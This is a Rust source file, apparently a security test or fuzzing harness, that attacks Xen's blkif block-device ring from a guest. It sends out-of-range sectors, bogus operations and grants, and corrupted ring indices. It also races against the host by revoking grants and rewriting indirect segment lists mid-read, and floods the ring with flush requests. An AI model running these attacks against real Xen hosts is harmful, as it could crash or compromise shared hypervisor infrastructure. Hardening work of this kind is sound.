//! Attacks on the block ring: Xen `public/io/blkif.h`, 64-bit layout.

use crate::target::{Block, Target};
use xen_rt::grant::Access;

const READ: u8 = 0;
const WRITE: u8 = 1;
const FLUSH: u8 = 3;
const DISCARD: u8 = 5;
const INDIRECT: u8 = 6;

/// Milliseconds the host gets to react.
const A_WHILE: u64 = 50;
const DATA_PAGE: usize = 50;
const INDIRECT_PAGE: usize = 51;

/// A request of one segment, to be bent.
#[derive(Clone, Copy)]
struct Request {
    operation: u8,
    segments: u8,
    id: u64,
    sector: u64,
    gref: u32,
    first: u8,
    last: u8,
}

impl Request {
    fn bytes(self) -> [u8; 112] {
        let mut bytes = [0; 112];
        bytes[0] = self.operation;
        bytes[1] = self.segments;
        bytes[8..16].copy_from_slice(&self.id.to_le_bytes());
        bytes[16..24].copy_from_slice(&self.sector.to_le_bytes());
        for segment in bytes[24..].chunks_exact_mut(8) {
            segment[..4].copy_from_slice(&self.gref.to_le_bytes());
            segment[4] = self.first;
            segment[5] = self.last;
        }
        bytes
    }
}

fn good(target: &mut Target) -> Option<Request> {
    target.block.as_ref()?;
    let gref = target.grant(DATA_PAGE, Access::Write);
    Some(Request { operation: READ, segments: 1, id: 1, sector: 0, gref, first: 0, last: 7 })
}

fn push(block: &Block, request: &[u8; 112]) {
    // A ring that is full stays as it is.
    if block.ring.produced().wrapping_sub(block.ring.answered()) < block.ring.slots {
        block.ring.push(request);
    }
}

/// Sends requests and lets the host react.
fn send(target: &Target, requests: &[[u8; 112]]) -> Option<()> {
    for request in requests {
        let block = target.block.as_ref()?;
        push(block, request);
        target.kick(block.slot);
        target.pause(A_WHILE);
    }
    Some(())
}

pub(crate) fn wild_index(target: &mut Target) -> Option<()> {
    let block = target.block.as_ref()?;
    block.ring.set_produced(block.ring.produced().wrapping_add(0x4000_0000));
    target.kick(block.slot);
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn responses(target: &mut Target) -> Option<()> {
    let request = good(target)?.bytes();
    let block = target.block.as_ref()?;
    push(block, &request);
    block.ring.set_answered(block.ring.answered().wrapping_sub(50));
    target.kick(block.slot);
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn wild_sector(target: &mut Target) -> Option<()> {
    let good = good(target)?;
    let sectors = target.block.as_ref()?.sectors;
    for sector in
        [sectors, sectors.wrapping_sub(1), u64::MAX, u64::MAX - 7, 1 << 63, u64::MAX / 512]
    {
        for operation in [READ, WRITE] {
            send(target, &[Request { sector, operation, ..good }.bytes()])?;
        }
    }
    Some(())
}

pub(crate) fn wild_segments(target: &mut Target) -> Option<()> {
    let good = good(target)?;
    for segments in [0, 12, 255] {
        send(target, &[Request { segments, ..good }.bytes()])?;
    }
    Some(())
}

pub(crate) fn wild_range(target: &mut Target) -> Option<()> {
    let good = good(target)?;
    for (first, last) in [(7, 0), (0, 8), (0, 255), (255, 255), (8, 8)] {
        send(target, &[Request { first, last, ..good }.bytes()])?;
    }
    Some(())
}

pub(crate) fn wild_operation(target: &mut Target) -> Option<()> {
    let good = good(target)?;
    for operation in [2, 4, 7, 77, 255] {
        send(target, &[Request { operation, ..good }.bytes()])?;
    }
    Some(())
}

pub(crate) fn bad_grant(target: &mut Target) -> Option<()> {
    let good = good(target)?;
    for gref in [0, 500, 512, u32::MAX] {
        for operation in [READ, WRITE] {
            send(target, &[Request { gref, operation, ..good }.bytes()])?;
        }
    }
    Some(())
}

pub(crate) fn read_only_grant(target: &mut Target) -> Option<()> {
    let good = good(target)?;
    let gref = target.grant(DATA_PAGE + 3, Access::Read);
    send(target, &[Request { gref, ..good }.bytes()])
}

pub(crate) fn grant_vanishes(target: &mut Target) -> Option<()> {
    const ENTRY: u32 = 496;
    let good = good(target)?;
    let address = target.pages.address(DATA_PAGE).addr();
    let frame = u32::try_from(target.boot.frame(address)).ok()?;
    for _ in 0..100 {
        target.grants.write(ENTRY, 0, frame, 1);
        let block = target.block.as_ref()?;
        push(block, &Request { gref: ENTRY, ..good }.bytes());
        target.kick(block.slot);
        target.grants.write(ENTRY, 0, 0, 0);
    }
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn same_id(target: &mut Target) -> Option<()> {
    let request = good(target)?.bytes();
    for _ in 0..8 {
        let block = target.block.as_ref()?;
        (0..32).for_each(|_| push(block, &request));
        target.kick(block.slot);
        target.pause(A_WHILE);
    }
    Some(())
}

pub(crate) fn flush_storm(target: &mut Target) -> Option<()> {
    let good = good(target)?;
    for turn in 0..2000 {
        let block = target.block.as_ref()?;
        push(block, &Request { operation: FLUSH, segments: 0, id: turn, ..good }.bytes());
        target.kick(block.slot);
    }
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn discard_wild(target: &mut Target) -> Option<()> {
    let sectors = target.block.as_ref()?.sectors;
    for (sector, count) in [(0, u64::MAX), (u64::MAX, 8), (sectors, 1), (8, 0), (1, sectors)] {
        let mut bytes = [0; 112];
        bytes[..2].copy_from_slice(&[DISCARD, 0xff]);
        bytes[16..24].copy_from_slice(&u64::to_le_bytes(sector));
        bytes[24..32].copy_from_slice(&u64::to_le_bytes(count));
        send(target, &[bytes])?;
    }
    Some(())
}

/// An indirect request; its list of segments is in a page of the guest.
fn indirect(operation: u8, segments: u16, list: u32) -> [u8; 112] {
    let mut bytes = [0; 112];
    bytes[..2].copy_from_slice(&[INDIRECT, operation]);
    bytes[2..4].copy_from_slice(&segments.to_le_bytes());
    bytes[8] = 9;
    for gref in bytes[28..60].chunks_exact_mut(4) {
        gref.copy_from_slice(&list.to_le_bytes());
    }
    bytes
}

fn list_page(target: &mut Target, gref: u32) -> u32 {
    let mut list = [0; 4096];
    for segment in list.chunks_exact_mut(8) {
        segment[..4].copy_from_slice(&gref.to_le_bytes());
        segment[5] = 7;
    }
    target.fill(INDIRECT_PAGE, &list);
    target.grant(INDIRECT_PAGE, Access::Write)
}

pub(crate) fn indirect_wild(target: &mut Target) -> Option<()> {
    let gref = good(target)?.gref;
    let list = list_page(target, gref);
    for (operation, segments, list) in [
        (READ, u16::MAX, list),
        (READ, 0, list),
        (READ, 4096, list),
        (77, 4, list),
        (INDIRECT, 4, list),
        (DISCARD, 4, list),
        (READ, 4, 500),
        (READ, 4, u32::MAX),
    ] {
        send(target, &[indirect(operation, segments, list)])?;
    }
    Some(())
}

/// Segments that name the page they stand in: the host's answer would change its own list.
pub(crate) fn indirect_itself(target: &mut Target) -> Option<()> {
    target.block.as_ref()?;
    let own = target.grant(INDIRECT_PAGE, Access::Write);
    let list = list_page(target, own);
    send(target, &[indirect(READ, 256, list), indirect(WRITE, 256, list)])
}

/// Changes the list of segments while the host may be reading it.
pub(crate) fn indirect_rewrite(target: &mut Target) -> Option<()> {
    let gref = good(target)?.gref;
    for turn in 0..100_u32 {
        let list = list_page(target, gref);
        let block = target.block.as_ref()?;
        push(block, &indirect(READ, 64, list));
        target.kick(block.slot);
        for step in 0..20_u32 {
            let [a, b, ..] = (turn * step).to_le_bytes();
            target.fill(INDIRECT_PAGE, &[a, b, a, b, b, a, 0, 0]);
        }
    }
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn rewrite(target: &mut Target) -> Option<()> {
    let good = good(target)?;
    for turn in 0..200_u64 {
        let block = target.block.as_ref()?;
        let position = block.ring.produced();
        push(block, &good.bytes());
        target.kick(block.slot);
        for step in 0..20 {
            let bent = Request { sector: turn << step, segments: 200, last: 200, ..good };
            block.ring.put(position, &bent.bytes());
        }
    }
    target.pause(A_WHILE);
    Some(())
}
